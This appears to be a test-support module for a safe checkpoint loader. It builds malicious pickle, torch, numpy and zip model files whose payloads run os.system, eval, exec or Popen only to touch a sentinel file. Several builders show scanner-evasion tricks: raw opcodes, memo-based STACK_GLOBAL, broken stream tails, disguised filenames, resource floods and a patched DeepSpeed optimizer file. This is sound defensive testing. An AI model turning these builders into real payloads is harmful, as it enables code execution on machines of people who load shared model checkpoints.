"""Builders of malicious checkpoint files, each harmless: its payload only creates a sentinel file.

Every payload is built for a given sentinel path, so a test can build it twice: once to prove it
live (a real loader in a subprocess creates sentinel A) and once to show ckptkit inert on it
(sentinel B is never created). Payloads follow ``safe-loading.md`` §4: every protocol 0-5 and
every global opcode form (GLOBAL, STACK_GLOBAL, INST, OBJ, Python 2 names), call chains through
getattr / importlib / functools / operator, payloads inside real torch files (zip and legacy),
disguised names, data before a zip, a memo fan-out bomb and a DeepSpeed optimizer file whose
loss scaler became ``os.system``.

``Call(fn, *args)`` pickles as ``REDUCE(fn, args)``; nesting Calls builds call chains exactly as
an attacker's ``__reduce__`` would.
"""

from __future__ import annotations

import functools
import importlib
import io
import operator
import os
import pickle
import pickletools
import shlex
import struct
import subprocess
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

REPO_ROOT = Path(__file__).resolve().parents[2]


class Call:
    """An object whose pickle is ``fn(*args)``: the shape of every __reduce__ payload."""

    def __init__(self, fn: Callable[..., Any], *args: Any) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.fn, self.args

    def __call__(self, *args: Any) -> Any:
        # pickle accepts only callables as REDUCE callees; a nested Call stands for the callable
        # its own call returns at load time. Building a payload never calls it.
        raise RuntimeError("a payload stand-in, never called")


def touch(sentinel: Path) -> str:
    return f"touch {shlex.quote(str(sentinel))}"


def python_touch(sentinel: Path) -> str:
    return f"import pathlib; pathlib.Path({str(sentinel)!r}).touch()"


# --- raw opcodes, for forms the pickler never writes ----------------------------------------------


def _string0(text: str) -> bytes:
    return b"S" + repr(text).encode() + b"\n"  # protocol 0 STRING


def _short_unicode(text: str) -> bytes:
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data  # SHORT_BINUNICODE


def _framed(body: bytes, protocol: int) -> bytes:
    return bytes([0x80, protocol]) + b"\x95" + struct.pack("<Q", len(body)) + body


# --- the payloads ---------------------------------------------------------------------------------


@dataclass(frozen=True)
class Payload:
    name: str
    filename: str
    build: Callable[[Path, Path, Any], None]  # (file to write, sentinel, sources) -> None
    names: str  # a global scan must name
    loader: str  # how to prove it live: pickle | torch | zip-data-pkl | zip-member | numpy
    torch_reads: bool = True  # torch.load would unpickle it (doctor has something to say)
    bomb: bool = False
    needs: str | None = None  # a session fixture the builder needs ("deepspeed_checkpoints")


def _dumps(make: Callable[[Path], Any], protocol: int) -> Callable[[Path, Path, Any], None]:
    def build(path: Path, sentinel: Path, sources: Any) -> None:
        path.write_bytes(pickle.dumps(make(sentinel), protocol=protocol))

    return build


def _raw(make: Callable[[Path], bytes]) -> Callable[[Path, Path, Any], None]:
    def build(path: Path, sentinel: Path, sources: Any) -> None:
        path.write_bytes(make(sentinel))

    return build


def _system(sentinel: Path) -> Call:
    return Call(os.system, touch(sentinel))


def _getattr_chain(sentinel: Path) -> Call:
    # builtins.getattr(builtins.__import__("os"), "system")("touch ...")
    return Call(Call(getattr, Call(__import__, "os"), "system"), touch(sentinel))


def _import_module(sentinel: Path) -> Call:
    return Call(Call(getattr, Call(importlib.import_module, "os"), "system"), touch(sentinel))


def _partial(sentinel: Path) -> Call:
    return Call(functools.partial(os.system, touch(sentinel)))


def _methodcaller(sentinel: Path) -> Call:
    return Call(operator.methodcaller("system", touch(sentinel)), Call(importlib.import_module, "os"))


def _attrgetter(sentinel: Path) -> Call:
    return Call(Call(operator.attrgetter("system"), Call(importlib.import_module, "os")), touch(sentinel))


def _inst(sentinel: Path) -> bytes:
    # INST: MARK, args, then "i module\nname\n" calls module.name(*args).
    return b"(" + _string0(touch(sentinel)) + b"ios\nsystem\n."


def _obj(sentinel: Path) -> bytes:
    # OBJ (protocol 1): MARK, the class (a GLOBAL), args, "o".
    return b"(cos\nsystem\n" + _string0(touch(sentinel)) + b"o."


def _global_os(sentinel: Path) -> bytes:
    return b"cos\nsystem\n(" + _string0(touch(sentinel)) + b"tR."


def _broken_tail(sentinel: Path) -> bytes:
    # The payload runs, then the stream breaks (no STOP): nullifAI's trick against scanners.
    return b"cos\nsystem\n(" + _string0(touch(sentinel)) + b"tR" + b"\xff\xfe garbage, no STOP"


def _stack_global_memo(sentinel: Path) -> bytes:
    # The operands of STACK_GLOBAL come from the memo, not from the pushes right before it.
    body = (
        _short_unicode("os")
        + b"\x94"
        + b"0"  # push, MEMOIZE (0), POP
        + _short_unicode("system")
        + b"\x94"
        + b"0"  # MEMOIZE (1), POP
        + b"h\x00h\x01\x93"  # BINGET 0, BINGET 1, STACK_GLOBAL
        + _short_unicode(touch(sentinel))
        + b"\x85R."  # TUPLE1, REDUCE, STOP
    )
    return _framed(body, 4)


def _stack_global_dotted(sentinel: Path) -> bytes:
    # Protocol 4 resolves "os.system" inside pathlib by attribute walk: the real os.system.
    body = _short_unicode("pathlib") + _short_unicode("os.system") + b"\x93"
    return _framed(body + _short_unicode(touch(sentinel)) + b"\x85R.", 4)


def _memo_bomb(sentinel: Path) -> bytes:
    # The payload, then 40 levels of lists holding the level below ten times through the memo:
    # 10**40 nodes once expanded. Plain pickle shares them and is done in microseconds.
    out = bytearray(b"\x80\x02cposix\nsystem\nX" + struct.pack("<I", len(touch(sentinel))))
    out += touch(sentinel).encode() + b"\x85R" + b"]q\x00"
    for level in range(40):
        out += (
            b"(" + (b"h" + bytes([level])) * 10 + b"lq" + bytes([level + 1])
        )  # MARK, 10 BINGET, LIST, BINPUT
    out += b"\x86."  # TUPLE2 (payload result, the top list), STOP
    return bytes(out)


# --- payloads behind a limit of ckptkit's interpreter that CPython does not have -----------------

MARK_FLOOD = 300  # open MARKs before the payload; ckptkit's interpreter stops at 256
_HASH_MODULUS = 2**61 - 1  # CPython hashes ints modulo this prime: k and k + n*M collide


def _payload_call(sentinel: Path) -> bytes:
    command = touch(sentinel).encode()
    return b"cposix\nsystem\nX" + struct.pack("<I", len(command)) + command + b"\x85R"


def _mark_flood(sentinel: Path) -> bytes:
    # CPython's MARK stack grows without bound; STOP only needs the value above the last MARK.
    return b"\x80\x02" + b"(" * MARK_FLOOD + _payload_call(sentinel) + b"."


def _hash_flood(sentinel: Path) -> bytes:
    # A dict of 9 int keys with one hash value (ckptkit allows 8), then the payload.
    keys = {1 + i * _HASH_MODULUS: i for i in range(9)}
    return pickle.dumps((keys, _system(sentinel)), protocol=2)


def _list_setitem(sentinel: Path) -> bytes:
    # SETITEM on a list: ckptkit refuses it, CPython calls list.__setitem__ and reads on.
    return b"\x80\x02]K\x00aK\x00K\x05s" + _payload_call(sentinel) + b"\x86."


def _torch_mark_flood(legacy: bool) -> Callable[[Path, Path, Any], None]:
    """A real torch.save file whose object pickle opens MARK_FLOOD MARKs before its payload."""

    def build(path: Path, sentinel: Path, sources: Any) -> None:
        import torch

        buffer = io.BytesIO()
        state = {"w": torch.arange(6.0), "evil": _system(sentinel)}
        torch.save(state, buffer, _use_new_zipfile_serialization=not legacy)
        original = buffer.getvalue()
        if legacy:  # the object is the 4th of the stacked pickles
            start = 0
            for _ in range(3):
                start += _pickle_length(original[start:])
            path.write_bytes(original[: start + 2] + b"(" * MARK_FLOOD + original[start + 2 :])
            return
        name = _data_pkl(original)
        data = zipfile.ZipFile(io.BytesIO(original)).read(name)
        _rewrite_zip(original, path, {name: data[:2] + b"(" * MARK_FLOOD + data[2:]})

    return build


def _pickle_length(data: bytes) -> int:
    return next(pos for op, _, pos in pickletools.genops(data) if op.name == "STOP") + 1


def _torch_save(make: Callable[[Path], Any], **kwargs: Any) -> Callable[[Path, Path, Any], None]:
    def build(path: Path, sentinel: Path, sources: Any) -> None:
        import torch

        state = {"w": torch.arange(6.0).reshape(2, 3), "evil": make(sentinel), "b": torch.ones(3)}
        torch.save(state, path, **kwargs)

    return build


def _swapped_data_pkl(path: Path, sentinel: Path, sources: Any) -> None:
    """A real torch.save zip whose data.pkl was replaced; the rewritten zip has valid CRCs."""
    import torch

    clean, evil = io.BytesIO(), io.BytesIO()
    torch.save({"w": torch.arange(6.0), "b": torch.ones(3)}, clean)
    torch.save({"w": torch.arange(6.0), "b": torch.ones(3), "evil": _system(sentinel)}, evil)
    payload = zipfile.ZipFile(evil).read("archive/data.pkl")
    _rewrite_zip(clean.getvalue(), path, {"archive/data.pkl": payload})


def _rewrite_zip(original: bytes, path: Path, replace: dict[str, bytes], prefix: bytes = b"") -> None:
    source = zipfile.ZipFile(io.BytesIO(original))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as target:
        for info in source.infolist():
            target.writestr(info.filename, replace.get(info.filename, source.read(info.filename)))
    path.write_bytes(prefix + out.getvalue())


def _prepended(path: Path, sentinel: Path, sources: Any) -> None:
    # torch.load refuses a zip with data in front; CPython's zipfile (and some scanners) accept it.
    import torch

    buffer = io.BytesIO()
    # The payload comes first: the plain unpickler proving it live cannot rebuild tensors.
    torch.save({"evil": _system(sentinel), "w": torch.arange(4.0)}, buffer)
    _rewrite_zip(buffer.getvalue(), path, {}, prefix=b"JUNK" * 64)


def _zip_member(path: Path, sentinel: Path, sources: Any) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("readme.txt", "nothing to see")
        archive.writestr("state/payload.pkl", pickle.dumps(_system(sentinel), protocol=2))


def _npy_object(path: Path, sentinel: Path, sources: Any) -> None:
    import numpy as np

    array = np.empty(1, dtype=object)
    array[0] = _system(sentinel)
    with path.open("wb") as f:
        np.save(f, array, allow_pickle=True)


def _deepspeed_scaler(path: Path, sentinel: Path, sources: Any) -> None:
    """A real DeepSpeed fp16 optimizer file whose DynamicLossScaler global became posix.system.

    The protocol 2 stream builds the scaler as GLOBAL, BINPUT, EMPTY_TUPLE, NEWOBJ, ... BUILD.
    The GLOBAL is renamed and EMPTY_TUPLE NEWOBJ becomes "(cmd,)" REDUCE: os.system runs, then
    BUILD fails on its int result, after the harm is done.
    """
    old = b"cdeepspeed.runtime.fp16.loss_scaler\nDynamicLossScaler\n"
    for case in sources.cases.values():
        if case.dtype == "fp16" and case.stage in (1, 2):
            original = next(case.tag_dir.glob("*optim_states.pt")).read_bytes()
            data = zipfile.ZipFile(io.BytesIO(original)).read(_data_pkl(original))
            if old in data:
                break
    start = data.index(old)
    ops = list(pickletools.genops(data[start:]))
    assert [op.name for op, _, _ in ops[1:4]] == ["BINPUT", "EMPTY_TUPLE", "NEWOBJ"], ops[:4]
    put_end, newobj_end = start + ops[2][2], start + ops[4][2]
    command = touch(sentinel).encode()
    call = b"X" + struct.pack("<I", len(command)) + command + b"\x85R"
    patched = data[:start] + b"cposix\nsystem\n" + data[start + len(old) : put_end] + call + data[newobj_end:]
    _rewrite_zip(original, path, {_data_pkl(original): patched})


def _data_pkl(zip_bytes: bytes) -> str:
    return next(n for n in zipfile.ZipFile(io.BytesIO(zip_bytes)).namelist() if n.endswith("/data.pkl"))


def _payloads() -> list[Payload]:
    by_protocol = [
        Payload(f"reduce_posix_system_p{p}", f"p{p}.pkl", _dumps(_system, p), "posix.system", "pickle")
        for p in range(6)
    ]
    return [
        *by_protocol,
        Payload("global_os_system", "os.pkl", _raw(_global_os), "os.system", "pickle"),
        Payload("inst_os_system", "inst.pkl", _raw(_inst), "os.system", "pickle"),
        Payload("obj_os_system", "obj.pkl", _raw(_obj), "os.system", "pickle"),
        Payload(
            "py2_builtin_eval",
            "eval.pkl",
            _dumps(lambda s: Call(eval, f"__import__('os').system({touch(s)!r})"), 2),
            "builtins.eval",
            "pickle",
        ),
        Payload(
            "builtins_exec_p4",
            "exec.pkl",
            _dumps(lambda s: Call(exec, python_touch(s)), 4),
            "builtins.exec",
            "pickle",
        ),
        Payload(
            "subprocess_popen",
            "popen.pkl",
            _dumps(lambda s: Call(subprocess.Popen, ["touch", str(s)]), 2),
            "subprocess.Popen",
            "pickle",
        ),
        Payload(
            "getattr_import_chain", "getattr.pkl", _dumps(_getattr_chain, 2), "builtins.getattr", "pickle"
        ),
        Payload(
            "importlib_import_module",
            "importlib.pkl",
            _dumps(_import_module, 3),
            "importlib.import_module",
            "pickle",
        ),
        Payload("functools_partial", "partial.pkl", _dumps(_partial, 2), "functools.partial", "pickle"),
        Payload(
            "operator_methodcaller", "mc.pkl", _dumps(_methodcaller, 4), "operator.methodcaller", "pickle"
        ),
        Payload("operator_attrgetter", "ag.pkl", _dumps(_attrgetter, 5), "operator.attrgetter", "pickle"),
        Payload("stack_global_memo", "sgm.pkl", _raw(_stack_global_memo), "os.system", "pickle"),
        Payload("stack_global_dotted", "sgd.pkl", _raw(_stack_global_dotted), "pathlib.os.system", "pickle"),
        Payload("broken_tail_p0", "broken.pt", _raw(_broken_tail), "os.system", "torch"),
        Payload("torch_zip_payload", "model.pt", _torch_save(_system), "posix.system", "torch"),
        Payload("torch_zip_swapped_data_pkl", "swapped.pt", _swapped_data_pkl, "posix.system", "torch"),
        Payload(
            "torch_legacy_payload",
            "legacy.pt",
            _torch_save(_system, _use_new_zipfile_serialization=False),
            "posix.system",
            "torch",
        ),
        Payload(
            "pickle_named_safetensors", "model.safetensors", _dumps(_system, 2), "posix.system", "pickle"
        ),
        Payload(
            "pickle_named_bin", "pytorch_model.bin", _dumps(_getattr_chain, 4), "builtins.getattr", "torch"
        ),
        Payload("prepended_zip", "prefixed.pt", _prepended, "posix.system", "zip-data-pkl"),
        Payload(
            "zip_member_pickle", "bundle.zip", _zip_member, "posix.system", "zip-member", torch_reads=False
        ),
        Payload("npy_object_array", "array.npy", _npy_object, "posix.system", "numpy", torch_reads=False),
        Payload("memo_fanout_bomb", "bomb.pkl", _raw(_memo_bomb), "posix.system", "pickle", bomb=True),
        Payload("mark_flood", "marks.pkl", _raw(_mark_flood), "posix.system", "pickle", bomb=True),
        Payload("hash_flood_dict", "keys.pkl", _raw(_hash_flood), "posix.system", "pickle", bomb=True),
        Payload("list_setitem", "setitem.pkl", _raw(_list_setitem), "posix.system", "pickle", bomb=True),
        Payload("torch_zip_mark_flood", "marks.pt", _torch_mark_flood(legacy=False), "posix.system", "torch"),
        Payload(
            "torch_legacy_mark_flood",
            "marks_legacy.pt",
            _torch_mark_flood(legacy=True),
            "posix.system",
            "torch",
        ),
        Payload(
            "deepspeed_loss_scaler_swapped",
            "zero_pp_rank_0_mp_rank_00_optim_states.pt",
            _deepspeed_scaler,
            "posix.system",
            "torch",
            needs="deepspeed_checkpoints",
        ),
    ]


PAYLOADS = {p.name: p for p in _payloads()}

# How each loader is run in a subprocess to prove a payload live. Errors after the payload ran
# (a BUILD on os.system's int result, a persistent id nobody resolves) do not matter.
_LOADERS = {
    "pickle": "import pickle\nwith open(path, 'rb') as f:\n    pickle.load(f)",
    "torch": "import torch\ntorch.load(path, weights_only=False)",
    "zip-data-pkl": (
        "import io, pickle, zipfile\nz = zipfile.ZipFile(path)\n"
        "u = pickle.Unpickler(io.BytesIO(z.read(next(n for n in z.namelist() if n.endswith('data.pkl')))))\n"
        "u.persistent_load = lambda pid: None\nu.load()"
    ),
    "zip-member": (
        "import pickle, zipfile\nz = zipfile.ZipFile(path)\n"
        "[pickle.loads(z.read(n)) for n in z.namelist() if n.endswith('.pkl')]"
    ),
    "numpy": "import numpy\nnumpy.load(path, allow_pickle=True)",
}


def run_loader(payload: Payload, path: Path) -> subprocess.CompletedProcess[str]:
    """Load ``path`` the way ``payload.loader`` says, in a fresh interpreter."""
    code = (
        f"path = {str(path)!r}\ntry:\n"
        + "".join(f"    {line}\n" for line in _LOADERS[payload.loader].splitlines())
        + "except BaseException as exc:\n    print('loader raised', type(exc).__name__)\n"
    )
    env = {**os.environ, "PYTHONPATH": str(REPO_ROOT), "DS_ACCELERATOR": "cpu"}
    return subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=120, env=env, check=False
    )
